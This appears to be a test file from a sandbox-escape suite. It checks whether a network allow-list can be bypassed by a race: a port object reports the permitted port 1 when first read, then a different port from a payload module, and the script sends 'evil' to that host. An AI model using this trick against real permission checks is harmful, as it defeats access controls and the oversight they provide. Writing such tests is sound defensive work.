"""A port that answers differently each time."""
CATEGORY = "races"
REACH = "net"
GRANT = {"net": ["127.0.0.1:1"]}

import socket

from . import payload


class Port:
    def __init__(self, times):
        self.times = times

    def __index__(self):
        self.times -= 1
        return 1 if self.times >= 0 else payload.PORT


def attack():
    for times in range(4):
        with socket.socket() as connection:
            try:
                connection.connect((payload.HOST, Port(times)))
                connection.sendall(b"evil")
            except OSError:
                pass
